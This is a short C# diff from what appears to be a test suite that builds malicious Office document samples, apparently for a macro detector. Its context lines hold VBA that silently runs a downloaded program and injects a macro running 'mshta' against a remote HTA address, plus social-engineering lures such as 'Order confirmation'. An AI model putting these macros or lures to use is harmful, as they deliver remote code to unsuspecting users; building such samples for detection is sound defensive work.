@@ -43,7 +43,7 @@ public sealed class MacroThatFetchesAProgram : SixthRound
                     CreateObject("WScript.Shell").Run Chr(34) & pfad & Chr(34), 0, False
                 End If
             End Sub
-            """").AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=ALERT(\"Inhalt aktivieren\")", autoName: 0, isMacroSheet: false)), "_VBA_PROJECT_CUR").Build());
+            """").AddTo(new OleFileBuilder().Stream("Workbook", Carriers.Workbook()), "_VBA_PROJECT_CUR").Build());
 
         yield return ("Summons.doc", new VbaProjectBuilder().Module("ThisDocument", Fill(""""
             Sub Document_Open()
@@ -297,7 +297,7 @@ public sealed class MacroOutOfSight : SixthRound
                 m.CodeModule.AddFromString "Sub Go()" & vbLf & "Shell ""mshta http://192.0.2.167/t.hta"", 0" & vbLf & "End Sub"
                 x.Run "Go"
             End Sub
-            """").AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=ALERT(\"x\")", autoName: 0, isMacroSheet: false)), "_VBA_PROJECT_CUR").Build());
+            """").AddTo(new OleFileBuilder().Stream("Workbook", Carriers.Workbook()), "_VBA_PROJECT_CUR").Build());
 
         yield return ("Order confirmation.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Order confirmation. Please rename to .docm if the content is not shown.</w:t></w:r></w:p>")
             .Part("word/vbaProject.bin", Project("ThisDocument", """"
